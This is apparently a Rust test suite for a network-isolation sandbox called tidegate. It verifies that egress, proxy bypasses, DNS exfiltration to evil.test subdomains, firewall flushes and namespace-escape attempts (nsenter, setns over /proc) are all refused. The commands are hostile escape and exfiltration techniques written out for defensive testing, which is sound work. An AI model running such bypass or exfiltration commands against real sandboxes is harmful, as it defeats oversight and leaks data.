//! Every protocol, every client, and every change of the network.

use crate::harness::{Counter, Ended, callers, end, in_a_network};

const PROBE: &str = include_str!("network.py");

/// Public ones, those of metadata services, gateways, and one of the link.
const PLACES: &[&str] =
    &["1.1.1.1", "2606:4700:4700::1111", "169.254.169.254", "fd00:ec2::254", "10.0.0.1", "172.17.0.1", "fd77::1", "fe80::1%lo"];

/// How each attempt at a place ends: at a door with a reason, an alert 49 (`access_denied`), a reset or REFUSED; or in the kernel.
const ENDS: &[(&str, &str)] = &[
    ("http", "HTTP/1.1 403 Forbidden x-deny-reason: ip_literal_not_allowed"),
    ("tls 443", "15030300020231"),
    ("tls 853", "15030300020231"),
    ("other 6379", "ECONNRESET"),
    ("udp 53", "rcode 5"),
    ("tcp 53", "rcode 5"),
    ("udp 443", "EPERM"),
    ("udp 123", "EPERM"),
    ("icmp", "EACCES"),
    ("raw", "EPERM"),
];
const OTHER_ENDS: &str = "sctp EPROTONOSUPPORT\nudp-lite EPERM\nbroadcast EPERM\nmulticast EPERM\npacket EAFNOSUPPORT\n\
                          multipath 15030300020231\nfast open EINPROGRESS\nforeign source 15030300020231\n";

/// Not even at the level `full`, which answers for every name: until somebody connects there, no name leaves either.
#[test]
fn threats_34_and_35_no_packet_leaves_by_any_protocol() {
    in_a_network("probes::network::threats_34_and_35_no_packet_leaves_by_any_protocol", || {
        let counter = Counter::start();
        let of_place = |place| ENDS.iter().map(move |(name, end)| format!("{place} {name} {end}\n"));
        let expected = PLACES.iter().flat_map(of_place).collect::<Vec<_>>().concat() + OTHER_ENDS;
        for caller in callers() {
            for (level, name) in [("trusted", "rcode 5"), ("none", "rcode 5"), ("full", "rcode 0")] {
                let Ended { status, out, err } = caller.python(&["--access", level], PROBE, &[&["5"], PLACES].concat());
                let reason = if level == "none" { "network_disabled" } else { "ip_literal_not_allowed" };
                let expected = expected.replace("rcode 5", name).replace("ip_literal_not_allowed", reason);
                assert_eq!((status, out.as_str()), (0, expected.as_str()), "{level}: {err}");
                assert!(err.contains(&format!("tidegate: refused: [2606:4700:4700::1111]:6379 ({reason})")), "{err}");
                counter.assert_silent("every protocol was tried");
            }
        }
    });
}

/// So that the test above can fail.
#[test]
fn the_counter_sees_every_protocol_without_walls() {
    in_a_network("probes::network::the_counter_sees_every_protocol_without_walls", || {
        let counter = Counter::start();
        for caller in callers() {
            let mut python = caller.command("python3");
            assert_eq!(end(python.args(["-c", PROBE, "0.1"]).args(PLACES), b"").status, 0);
            let packets = counter.packets();
            for place in PLACES {
                let host = place.split('%').next().unwrap();
                let at = |port: u16| if host.contains(':') { format!("[{host}]:{port}") } else { format!("{host}:{port}") };
                for packet in [6, 17].map(|protocol| [53, 443].map(|port| format!("{protocol} * > {}", at(port)))).concat() {
                    let (begin, end) = packet.split_once('*').unwrap();
                    assert!(packets.iter().any(|seen| seen.starts_with(begin) && seen.ends_with(end)), "{packet} in {packets:#?}");
                }
            }
            for end in ["> 1.1.1.1:853", "> 224.0.0.251:5353", "> 255.255.255.255:67", "136 1.1.1.1 > 1.1.1.1"] {
                assert!(packets.iter().any(|seen| seen.ends_with(end)), "{end} in {packets:#?}");
            }
        }
    });
}

/// Clients that are told to go their own way, and what they show of the refusal.
const CLIENTS: &[(&str, &str)] = &[
    ("curl -sS -m 5 --noproxy '*' http://1.1.1.1/", "\"reason\":\"ip_literal_not_allowed\""),
    ("curl -sS -m 5 --noproxy '*' https://1.1.1.1/ 2>&1", "access denied"),
    ("NO_PROXY='*' no_proxy='*' curl -sS -m 5 http://1.1.1.1/", "\"reason\":\"ip_literal_not_allowed\""),
    ("NO_PROXY=1.0.0.0/8 no_proxy=1.0.0.0/8 curl -sS -m 5 http://1.1.1.1/", "\"reason\":\"ip_literal_not_allowed\""),
    ("env -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy curl -sS -m 5 https://1.1.1.1/ 2>&1", "access denied"),
    ("env -i PATH=\"$PATH\" curl -sS -m 5 http://1.1.1.1/", "\"reason\":\"ip_literal_not_allowed\""),
    ("curl -sS -m 5 --noproxy '*' --resolve evil.test:80:1.1.1.1 http://evil.test/", "\"reason\":\"host_not_allowed\""),
    ("curl -sS -m 5 --noproxy '*' --resolve evil.test:443:1.1.1.1 https://evil.test/ 2>&1", "access denied"),
    ("curl -sS -m 5 --noproxy '*' --connect-to ::1.1.1.1:443 https://evil.test/ 2>&1", "access denied"),
    ("curl -sS -m 5 --noproxy '*' --connect-to '::[2606:4700:4700::1111]:80' http://evil.test/", "\"reason\":\"host_not_allowed\""),
    ("curl -sS -m 5 -x http://1.1.1.1:8080 http://evil.test/", "\"reason\":\"host_not_allowed\""),
    ("curl -sS -m 5 --socks5-hostname 1.1.1.1:1080 http://evil.test/ 2>&1", "curl: (97)"),
    ("curl -sS -m 5 --interface lo --noproxy '*' http://1.1.1.1/", "\"reason\":\"ip_literal_not_allowed\""),
    ("wget -q --no-proxy -T 5 -t 1 -S -O - http://1.1.1.1/ 2>&1", "403 Forbidden"),
    (
        "python3 -c 'import urllib.request as u; u.build_opener(u.ProxyHandler({})).open(\"http://1.1.1.1/\", timeout=5)' 2>&1",
        "HTTP Error 403",
    ),
    (
        "env -u NODE_USE_ENV_PROXY -u NODE_OPTIONS node -e 'fetch(\"http://1.1.1.1/\").then(r => r.text()).then(console.log)'",
        "\"reason\":\"ip_literal_not_allowed\"",
    ),
    (
        "bash -c 'exec 3<>/dev/tcp/1.1.1.1/80; printf \"GET / HTTP/1.0\\r\\nHost: 1.1.1.1\\r\\n\\r\\n\" >&3; cat <&3'",
        "ip_literal_not_allowed",
    ),
    ("git -c http.proxy= ls-remote http://1.1.1.1/o/r 2>&1", "The requested URL returned error: 403"),
    ("ssh -F none -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=5 git@1.1.1.1 2>&1", "Tidegate"),
];

#[test]
fn threat_37_no_client_goes_its_own_way() {
    in_a_network("probes::network::threat_37_no_client_goes_its_own_way", || {
        let counter = Counter::start();
        let callers = callers();
        for (script, shows) in CLIENTS {
            for caller in &callers {
                let Ended { out, err, .. } = caller.shell(script);
                assert!(out.contains(shows), "{script}: {out}\n{err}");
                assert!(err.lines().any(|line| line.starts_with("tidegate: refused: ")), "{script}: {out}\n{err}");
                counter.assert_silent(script);
            }
            // It is no client that stays at home.
            end(callers[0].command("sh").args(["-c", script]), b"");
            assert!(!counter.packets().is_empty(), "{script}");
        }
    });
}

/// Prints each command that is refused; what is left open after them is tried at last.
const CHANGES: &str = r#"
try() { "$@" >/dev/null 2>&1 && echo "done: $*"; }
try ip link show lo
try nft flush ruleset
try nft delete table inet tidegate
try nft add table inet mine
try iptables -F
try ip6tables -F
try ip link set lo down
try ip link set lo mtu 1280
try ip link add out type veth peer name in
try ip link add out type dummy
try ip tuntap add out mode tun
try ip address add 10.0.0.5/8 dev lo
try ip address del 127.0.0.1/8 dev lo
try ip route add default via 127.0.0.1
try ip route replace default dev lo
try ip route flush table local
try ip route del local default table local
try ip -6 route flush table local
try ip rule add from all lookup main
try ip neighbour add 10.0.0.1 lladdr 02:00:00:00:00:01 dev lo
try ip netns add mine
try ip netns attach outside 1
try sysctl -w net.ipv4.ip_forward=1
try unshare -n curl -s -m 5 http://1.1.1.1/
try unshare -Urn curl -s -m 5 http://1.1.1.1/
try nsenter -t 1 -n true
try nsenter -t 1 -n -U true
try nsenter -t 1 -a true
try unshare -Ur nsenter -t 1 -n true
try unshare -Ur nft flush ruleset
try unshare -Urn nsenter -t $$ -n curl -s -m 5 http://1.1.1.1/
curl -sS -m 5 --noproxy '*' http://1.1.1.1/ | grep -o ip_literal_not_allowed | head -1
python3 - <<'PYTHON'
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
entered = set()
for path in glob.glob('/proc/[0-9]*/ns/net') + glob.glob('/proc/[0-9]*/ns/user') + ['/proc/1/ns/net', '/proc/self/ns/net']:
    try:
        with open(path) as one:
            if libc.setns(one.fileno(), 0) == 0:
                entered.add(path)
    except OSError:
        pass
print('entered', sorted(entered))
PYTHON
"#;

#[test]
fn nothing_inside_changes_the_network() {
    in_a_network("probes::network::nothing_inside_changes_the_network", || {
        let counter = Counter::start();
        for caller in callers() {
            let Ended { status, out, err } = caller.shell(CHANGES);
            assert_eq!((status, out.as_str()), (0, "done: ip link show lo\nip_literal_not_allowed\nentered []\n"), "{err}");
            assert_eq!(err.lines().count(), 1, "{err}");
            counter.assert_silent("the network was to be changed");
        }
    });
}

/// Names carry nothing out: each is refused before anybody is asked for it.
#[test]
fn threat_29_no_name_leaves_that_is_not_allowed() {
    in_a_network("probes::network::threat_29_no_name_leaves_that_is_not_allowed", || {
        let counter = Counter::start();
        for caller in callers() {
            let servers = ["", "@1.1.1.1", "@2606:4700:4700::1111", "@127.0.0.53", "@192.0.2.1 +tcp"];
            let kinds = ["A", "AAAA", "TXT", "NULL", "ANY", "HTTPS", "MX"];
            let script = format!(
                "for server in '{}'; do for kind in {}; do dig +tries=1 +time=5 $server $kind c2VjcmV0.evil.test | grep -E -o 'status: REFUSED|EDE: 15'; done; done",
                servers.join("' '"),
                kinds.join(" ")
            );
            let Ended { out, err, .. } = caller.shell(&script);
            assert_eq!(out, "status: REFUSED\nEDE: 15\n".repeat(servers.len() * kinds.len()), "{err}");
            // Over TLS, over HTTPS.
            let over_tls = caller.shell("dig +tries=1 +time=5 +tls @1.1.1.1 A c2VjcmV0.evil.test");
            assert!(!over_tls.out.contains("status:"), "{over_tls:?}");
            let over_https = caller.shell("curl -sS -m 5 'https://1.1.1.1/dns-query?dns=AAAB' 2>&1");
            assert!(over_https.out.contains("403"), "{over_https:?}");
            counter.assert_silent("names were asked for");
        }
    });
}
